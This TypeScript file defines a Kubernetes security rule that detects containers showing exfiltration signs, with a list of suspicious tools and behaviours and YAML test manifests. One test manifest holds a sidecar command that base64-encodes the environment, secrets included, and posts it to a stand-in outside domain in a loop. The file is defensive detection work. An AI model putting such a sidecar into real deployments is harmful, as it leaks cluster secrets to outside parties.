import { containersOf, describeContainer, WORKLOAD_KINDS } from '../../core/workload.js';
import type { Rule, Violation } from '../rule.js';
import { analyzeWorkload, exposureOf, tellsOf, tokenVerdict } from '../token-analysis.js';
import { containerShowsExfiltration, describeTells, tellsJson } from '../tells.js';
import { checkedWorkload } from './helpers.js';

export const containerExfiltrationTells: Rule = {
  meta: {
    id: 'container-exfiltration-tells',
    title: 'Container shows exfiltration tells',
    severity: 'medium',
    stage: 'recon',
    description:
      'The container has a way out of the cluster and a behaviour that gathers or hides data: a shell loop (`while true`), network tools (`nslookup`, `dig`, `curl`, `wget`, `nc`) aimed outside the cluster, encoding (`base64`, `base32`, `xxd`, `od`), reading the ServiceAccount token file, calling the API server, the cloud metadata address, hard-coded outside addresses or domains in its command, arguments or environment, DNS sent to resolvers outside the cluster (`dnsPolicy: None`), the host network. The tells are quoted, never a whole command or environment value. When the container also holds a token worth reporting, `container-holds-powerful-token` reports both at the severity the pair deserves, and this rule stays silent.',
    remediation: 'Find out what the loop sends where. A legitimate agent ships data through a documented endpoint, from an image of the chart\'s own registry, pinned by digest; restrict its egress with a NetworkPolicy to that endpoint.',
    references: [
      { tool: 'kubernetes-docs', id: 'network-policies', url: 'https://kubernetes.io/docs/concepts/services-networking/network-policies/' },
    ],
    kinds: WORKLOAD_KINDS,
  },
  check(object, context) {
    if (!checkedWorkload(object, context)) return [];
    const analysis = analyzeWorkload(object, context);
    const violations: Violation[] = [];
    // Nearly every container shows nothing: it is cleared without its image's tells (context, never the verdict) and without an array made for it.
    for (const ref of containersOf(object)) {
      const held = analysis.containers.find((container) => container.ref.container === ref.container);
      if (held ? !held.exfiltration || held.tokens.some((token) => tokenVerdict(held, token)) : !containerShowsExfiltration(object, ref)) continue;
      const { tells } = held ?? tellsOf(object, ref);
      const token = held?.tokens.find((candidate) => candidate.reach);
      const exposure = exposureOf(object, context);
      const network = exposure ? `; nothing stops it: it ${[exposure.internet, exposure.dns].filter(Boolean).join(' and ')}` : '';
      violations.push({
        message: `${describeContainer(ref)} ${describeTells(tells)}${token ? `, holding the token of ${token.holder} (which ${token.summary})` : ''}${network}`,
        path: tells[0]?.path ?? ref.path,
        evidence: { container: ref.container.name, tells: tellsJson(tells), ...(token ? { token: token.holder, permission: token.summary } : {}), ...(exposure ? { network: exposure } : {}) },
      });
    }
    return violations;
  },
  examples: {
    valid: [
      {
        name: 'waiting for a database in the cluster, reloading through localhost, a program with a URL in its arguments',
        yaml: `
apiVersion: apps/v1
kind: Deployment
metadata: {name: shop, namespace: shop}
spec:
  selector: {matchLabels: {app: shop}}
  template:
    metadata: {labels: {app: shop}}
    spec:
      automountServiceAccountToken: false
      initContainers:
      - {name: wait-for-db, image: "busybox:1.36", command: [sh, -c, 'until nslookup db.shop.svc.cluster.local; do sleep 2; done']}
      containers:
      - {name: shop, image: "ghcr.io/acme/shop:3.0.2", args: [--issuer=https://login.example.com/realms/shop]}
      - {name: reloader, image: "ghcr.io/acme/reloader:0.4.0", command: [sh, -c, 'while true; do curl -s -X POST http://localhost:9090/-/reload; sleep 60; done']}
`,
      },
      {
        name: 'a container with tells that also holds a token worth reporting: container-holds-powerful-token reports it',
        yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: agent-admin}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: agent, namespace: tracing}]
---
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: tracing}
spec:
  serviceAccountName: agent
  containers: [{name: agent, image: "agent:1.0.0", command: [sh, -c, 'while true; do curl -d @/etc/hostname https://collect.example.net; sleep 9; done']}]
`,
      },
    ],
    invalid: [
      {
        name: 'a sidecar that loops, encodes and sends to an outside domain (no token needed to leak what it can read)',
        yaml: `
apiVersion: v1
kind: Pod
metadata: {name: app, namespace: shop}
spec:
  automountServiceAccountToken: false
  containers:
  - {name: app, image: "ghcr.io/acme/app:1.0.0", envFrom: [{secretRef: {name: app-db}}]}
  - name: metrics
    image: docker.io/m3trics/agent:latest
    command: [/bin/sh, -c, 'while :; do env | base64 | curl -s -d @- https://m.example-telemetry.net/in; sleep 600; done']
`,
        violations: 1,
        severities: ['medium'],
      },
    ],
  },
};
